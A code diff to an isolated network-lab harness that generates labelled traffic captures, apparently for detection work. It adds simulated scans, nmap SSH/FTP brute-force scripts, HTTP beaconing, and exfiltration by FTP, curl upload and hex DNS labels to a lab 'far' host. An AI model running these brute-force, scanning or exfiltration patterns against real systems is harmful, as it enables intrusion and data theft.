@@ -10,6 +10,7 @@ Nothing leaves the machine: six hosts hang on a bridge in namespaces of their ow
 address, which is how the records are labelled (models/flow/captures.yml):
 
   10.77.0.10 10.77.0.11   servers: sshd, vsftpd, web, names; .11 drops what it does not serve
+  10.77.0.30 to .59       addresses of .10, so that there is somebody to go from host to host to
   10.77.0.21 10.77.0.22   clients that do ordinary things all the while
   10.77.0.66              does what the capture is called after
   10.77.0.99              the far end of beacons and of what is carried out
@@ -79,6 +80,8 @@ class Network:
             run(f"ip -n ov{host} addr add {address(host)}/24 dev eth0")
             run(f"ip -n ov{host} link set eth0 up")
             run(f"ip -n ov{host} link set lo up")
+        for last in range(30, 60):
+            run(f"ip -n ovweb addr add 10.77.0.{last}/24 dev eth0")
         self.serve()
         time.sleep(2)
         return self
@@ -113,7 +116,11 @@ class Network:
         irc = ("python3 -c \"import socketserver as s\nclass H(s.BaseRequestHandler):\n def handle(self):\n"
                "  d=self.request.recv(400); self.request.sendall(b'!ping '+b'x'*180); self.request.recv(400)\n"
                "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',6667),H).serve_forever()\"")
-        self.servers += [start("far", receiver), start("far", irc), start("far", sshd),
+        broken = ("python3 -c \"import socketserver as s, socket as k, struct as t, time\nclass H(s.BaseRequestHandler):\n def handle(self):\n"
+                  "  d=self.request.recv(900); self.request.sendall(b'x'*90); time.sleep(0.7)\n"
+                  "  self.request.setsockopt(k.SOL_SOCKET, k.SO_LINGER, t.pack('ii',1,0)); self.request.close()\n"
+                  "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',1337),H).serve_forever()\"")
+        self.servers += [start("far", receiver), start("far", irc), start("far", broken), start("far", sshd),
                          start("far", "dnsmasq -k -h -R -C /dev/null --address=/#/10.77.0.99 --pid-file")]
         inside("shy", "iptables -A INPUT -p tcp -m multiport ! --dports 21,22,80 --syn -j DROP")
 
@@ -245,6 +252,78 @@ def scan_connect(server, first, last, pause):
         time.sleep(pause)
 
 
+def banners(first, last, pause):
+    """Asks every port of interest of several hosts what serves there, and leaves."""
+    import socket
+    for host in range(first, last):
+        for port in (21, 22, 23, 25, 53, 80, 110, 143, 443, 3306, 8080):
+            try:
+                with socket.create_connection((f"10.77.0.{host}", port), timeout=0.5) as wire:
+                    if port in (80, 443, 8080):
+                        wire.sendall(b"HEAD / HTTP/1.0\r\n\r\n")
+                    wire.recv(300)
+            except OSError:
+                pass
+            time.sleep(pause)
+
+
+def pings(first, last, count, pause):
+    for host in range(first, last):
+        run(f"ping -n -c {count} -i 0.2 -W 1 10.77.0.{host}", check=False)
+        time.sleep(pause)
+
+
+def call_home(server, pause, jitter, seconds, size):
+    """Asks a web server for orders, and tells it something each fifth time."""
+    import urllib.request
+    until, number = time.time() + seconds, 0
+    while time.time() < until:
+        number += 1
+        data = b"r" * (size * 4) if number % 5 == 0 else None
+        try:
+            request = urllib.request.Request(f"http://{server}:443/{'a' * (size % 90)}?id=77", data=data)
+            urllib.request.urlopen(request, timeout=3).read()
+        except OSError:
+            pass
+        time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))
+
+
+def carry_by_ftp(server, count):
+    import ftplib
+    import io
+    for number in range(count):
+        with ftplib.FTP(server, "anonymous", "x", timeout=30) as ftp:
+            ftp.storbinary(f"STOR up/{number}-{random.random()}", io.BytesIO(bytes(3_000_000 * (1 + number % 4))))
+        time.sleep(0.5)
+
+
+def carry_in_names(server, count, length, pause):
+    """As another tool does: one long label in hexadecimal, behind a number."""
+    chance = random.Random(count)
+    for number in range(count):
+        ask(server, f"{number:04x}{chance.getrandbits(4 * length):0{length}x}.d.example.com")
+        time.sleep(pause * random.uniform(0.5, 1.5))
+
+
+def look_after(network_key, server, pause, seconds):
+    """What an administrator's scripts do: a login with a key again and again, a health check, a file fetched."""
+    until = time.time() + seconds
+    ssh = f"ssh -i {network_key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@{server}"
+    while time.time() < until:
+        run(f"{ssh} 'uptime; df'", check=False)
+        run(f"curl -s -m 5 http://{server}/3.html", check=False)
+        run(f"curl -s -m 5 ftp://{server}/seven", check=False)
+        time.sleep(pause)
+
+
+def poll(server, pause, seconds):
+    """A page that looks whether there is something new."""
+    until = time.time() + seconds
+    while time.time() < until:
+        run(f"curl -s -m 5 http://{server}/5.html", check=False)
+        time.sleep(pause * random.uniform(0.95, 1.05))
+
+
 def hold_open(server, count, seconds):
     """Slow headers on many connections, as slowloris does."""
     import socket
@@ -322,6 +401,23 @@ CAPTURES = {
     "carry-web": (40, [f"sh -c 'head -c {size}000000 /dev/zero | curl -s -m 30 -T - http://{F}:443/up'" for size in (30, 80, 150)]),
     "carry-ssh": (40, [f"sh -c 'head -c {size}000000 /dev/zero | ssh -i KEY -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{F} \"cat >/dev/null\"'" for size in (25, 60, 120)]),
     "carry-names": (45, [mine("carry_by_names", F, 900)]),
+    "guess-ssh-nmap": (12, [f"nmap -n -Pn -p22 --script ssh-brute --script-args userdb={LIST},passdb={LIST} {S}"]),
+    "guess-ftp-nmap": (45, [f"nmap -n -Pn -p21 --script ftp-brute --script-args userdb={LIST},passdb={LIST} {W}"]),
+    "guess-ssh-seldom": (110, [mine("guess_ssh", W, 7, 30, 1)]),
+    "guess-ssh-around": (60, [mine("guess_ssh", f"10.77.0.{last}", 0.1, 3, 2) for last in range(30, 48)]),
+    "scan-versions-all": (75, [f"nmap -n -Pn -sV -p1-120 {W}", f"nmap -n -Pn -A -p21,22,80 {S}"]),
+    "scan-banners": (60, [mine("banners", 30, 50, 0.05)]),
+    "scan-pings": (45, ["nmap -n -sn -PE --disable-arp-ping --send-ip 10.77.0.10-11,21-22,30-59", mine("pings", 30, 60, 1, 0.3)]),
+    "scan-pings-few": (45, [mine("pings", 30, 40, 2, 2)]),
+    "scan-one-port": (45, ["nmap -n -Pn -sS -p22 10.77.0.30-59", mine("banners", 50, 60, 0.3)]),
+    "beacon-web": (110, [mine("call_home", F, 4, 0.2, 105, 40)]),
+    "beacon-web-fast": (60, [mine("call_home", F, 1, 0.5, 55, 133)]),
+    "beacon-broken": (100, [mine("beacon", F, 1337, 3, 0.3, 95, 220)]),
+    "carry-hex": (60, [mine("carry_in_names", F, 300, 50, 0.15)]),
+    "carry-ftp": (50, [mine("carry_by_ftp", W, 12)]),
+    "carry-web-parts": (60, [f"sh -c 'for i in $(seq 1 25); do head -c $((i % 5 + 1))000000 /dev/urandom | curl -s -m 30 -T - http://{F}:443/$i; sleep 1; done'"]),
+    "quiet-admin": (75, [mine("look_after", "KEY", W, 1.5, 70)]),
+    "quiet-poll": (75, [mine("many", 2, "poll", W, 2, 70)]),
     "quiet": (120, []),
     "quiet-busy": (60, [f"sh -c 'for i in $(seq 1 1500); do curl -s -m 5 http://{W}/$((i % 40)).html; done'"]),
     "quiet-page": (60, [f"sh -c 'for i in $(seq 1 60); do for j in 1 2 3 4 5 6; do curl -s -m 5 http://{W}/$(((i + j) % 40)).html & done; wait; sleep 0.3; done'"]),
